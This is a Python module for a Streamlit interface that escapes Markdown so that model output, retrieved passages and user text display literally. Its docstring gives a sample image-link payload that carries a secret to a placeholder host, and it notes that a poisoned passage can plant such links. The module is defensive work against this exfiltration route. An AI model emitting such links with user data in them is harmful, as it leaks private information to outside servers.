"""Text from the model, the documents or a user, shown through Streamlit's Markdown (st.markdown, captions,
expander and button labels) as the literal text it is.

Markdown would turn `![x](http://host/a.png?leak=SECRET)` into an image the browser fetches at once (leaking
whatever the model or a poisoned passage put into the URL), `[x](url)` or a bare URL into a link, `<img>`
into HTML, `:red[..]` into a Streamlit directive. `text` backslash-escapes every character that starts
such a construct, so none can form; emphasis and list markers are left alone (they cannot fetch anything),
and citations still read `[1]`.
"""

from __future__ import annotations

import re

# [ ] ( ) !: links and images (inline and reference); < > &: HTML, autolinks, entities; : @ www.: GFM
# autolink literals, Streamlit icons/colour directives; $: LaTeX; ` \ * _ ~ | #: code, escapes, emphasis,
# tables, headings (harmless, escaped so that the text reads exactly as written)
_SPECIAL = re.compile(r"([\\`*_\[\]()<>!&:@$~|#{}])")
# GFM turns bare URLs, `www.` names and e-mail addresses into links even when their characters are escaped:
# an invisible word joiner inside the marker stops that (the text reads, and wraps, the same)
_AUTOLINK = re.compile(r"(?i)(://|\bwww(?=\.)|@)")
WJ = "\u2060"


# a quoted unit in an answer's plain text: "> the unit's words [n]" (assistant.chain.composition; the grounding
# guard's quotes in turns saved before it) (a line merely starting with ">", as in "> 300,000 needs approval",
# keeps its ">")
_QUOTE_LINE = re.compile(r"^> (.*\[\d{1,2}\])\s*$")


def _literal(s: str) -> str:
    return _SPECIAL.sub(r"\\\1", _AUTOLINK.sub(lambda m: m.group(1)[0] + WJ + m.group(1)[1:], s))


def text(s: object) -> str:
    """`s` as Markdown that renders to exactly its characters (line breaks kept), except that a quoted unit
    ('> words [n]') shows as a block quote of its literal text: a quote can fetch nothing, and the '>' would
    otherwise read as a stray character."""
    out: list[str] = []
    for line in str(s).replace("\r\n", "\n").split("\n"):
        m = _QUOTE_LINE.match(line)
        if m:
            out.append("> " + _literal(m.group(1)))
            continue
        if out and out[-1].startswith("> ") and line.strip():
            out.append("")  # end the quote: Markdown would carry a following line into it
        out.append(_literal(line))
    return "  \n".join(out)


def quote(s: str) -> str:
    """A passage as a Markdown quote that shows its text literally."""
    return "\n".join(f"> {text(line)}  " if line.strip() else ">" for line in s.splitlines())
